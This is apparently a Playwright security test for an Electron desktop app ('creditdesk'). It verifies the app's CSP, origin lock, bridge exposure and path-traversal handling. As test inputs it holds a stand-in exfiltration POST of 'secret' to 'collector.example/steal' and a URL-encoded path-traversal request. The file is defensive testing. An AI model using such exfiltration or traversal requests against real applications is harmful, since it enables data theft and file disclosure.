// Desktop-shell checks against the real Electron binary: the built app (dist/electron/main.js with
// dist/renderer) must load over app://, expose only the bridge, and refuse to leave its origin.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { _electron as electron, expect, test } from '@playwright/test';
import { desktopContentSecurityPolicy, effectivePolicies } from '../../electron/csp.ts';

const projectRoot = fileURLToPath(new URL('../..', import.meta.url));

/** The Electron executable if its binary was downloaded (resolved like node_modules/electron/index.js, without triggering a download). */
function installedElectron(): string | null {
  const packageDir = join(projectRoot, 'node_modules', 'electron');
  const pathFile = join(packageDir, 'path.txt');
  const relative = existsSync(pathFile) ? readFileSync(pathFile, 'utf8') : null;
  const override = process.env.ELECTRON_OVERRIDE_DIST_PATH;
  const executable = override
    ? join(override, relative ?? 'electron')
    : relative === null
      ? null
      : join(packageDir, 'dist', relative);
  return executable !== null && existsSync(executable) ? executable : null;
}

const executablePath = installedElectron();
test.skip(
  executablePath === null,
  'Electron binary not installed (download blocked on this machine); desktop-shell tests skipped',
);

test('the desktop shell serves the app over app:// and keeps it inside its origin', async () => {
  test.setTimeout(120_000);
  expect(
    existsSync(join(projectRoot, 'dist/renderer/index.html')),
    'build the renderer first (vite build)',
  ).toBe(true);
  execFileSync('npx', ['vite', 'build', '-c', 'electron/vite.config.ts'], {
    cwd: projectRoot,
    stdio: 'inherit',
  });

  const profile = mkdtempSync(join(tmpdir(), 'creditdesk-electron-e2e-'));
  let hits = 0;
  const foreign = createServer((_request, response) => {
    hits += 1;
    response.end('<h1>foreign</h1>');
  });
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  const foreignUrl = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}/`;

  const app = await electron.launch({
    executablePath: executablePath ?? undefined,
    args: ['.'],
    cwd: projectRoot,
    env: { ...(process.env as Record<string, string>), CREDITDESK_USER_DATA_DIR: profile },
  });
  try {
    const page = await app.firstWindow();
    await page.waitForLoadState('domcontentloaded');

    await test.step('loads the renderer from app://creditdesk under the desktop CSP header alone', async () => {
      expect(page.url()).toMatch(/^app:\/\/creditdesk\//);
      const served = await page.evaluate(async () => {
        const response = await fetch('/index.html');
        return { csp: response.headers.get('content-security-policy'), html: await response.text() };
      });
      expect(effectivePolicies(served.csp, served.html)).toEqual([desktopContentSecurityPolicy('')]);
    });

    await test.step('a page script cannot fetch an outside https origin or a local service', async () => {
      const violations: string[] = [];
      page.on('console', (message) => {
        if (message.text().includes('Content Security Policy')) violations.push(message.text());
      });
      const refused = await page.evaluate(
        async (urls) => {
          const results: boolean[] = [];
          for (const url of urls) {
            try {
              await fetch(url, { method: 'POST', body: 'secret' });
              results.push(false);
            } catch {
              results.push(true);
            }
          }
          return results;
        },
        ['https://collector.example/steal', foreignUrl],
      );
      expect(refused).toEqual([true, true]);
      expect(hits).toBe(0);
      await expect.poll(() => violations.join('\n')).toContain('collector.example');
    });

    // contextBridge only works with context isolation, so a present bridge also proves it is on.
    await test.step('exposes window.creditdesk and no Node globals', async () => {
      const globals = await page.evaluate(() => {
        const scope = globalThis as unknown as Record<string, unknown>;
        const bridge = scope.creditdesk as Record<string, unknown> | undefined;
        return {
          bridge: bridge ? Object.keys(bridge).sort() : null,
          require: typeof scope.require,
          process: typeof scope.process,
          module: typeof scope.module,
        };
      });
      expect(globals).toEqual({
        bridge: ['allowPlatform', 'appInfo', 'openExternal', 'openFile', 'printToPdf', 'saveFile', 'secrets'],
        require: 'undefined',
        process: 'undefined',
        module: 'undefined',
      });
      const info = await page.evaluate(() =>
        (
          globalThis as unknown as { creditdesk: { appInfo(): Promise<{ shell: string }> } }
        ).creditdesk.appInfo(),
      );
      expect(info.shell).toBe('electron');
    });

    await test.step('refuses to navigate or open windows to another origin', async () => {
      await page.evaluate((url) => {
        window.location.href = url;
      }, foreignUrl);
      await page.waitForTimeout(1_000);
      expect(page.url()).toMatch(/^app:\/\/creditdesk\//);
      expect(await page.evaluate((url) => window.open(url) === null, foreignUrl)).toBe(true);
      await page.waitForTimeout(500);
      expect(app.windows()).toHaveLength(1);
      expect(hits).toBe(0);
    });

    await test.step('answers path traversal with 404', async () => {
      const status = await page.evaluate(async () => (await fetch('/..%2f..%2fpackage.json')).status);
      expect(status).toBe(404);
    });
  } finally {
    await app.close();
    foreign.close();
    rmSync(profile, { recursive: true, force: true });
  }
});
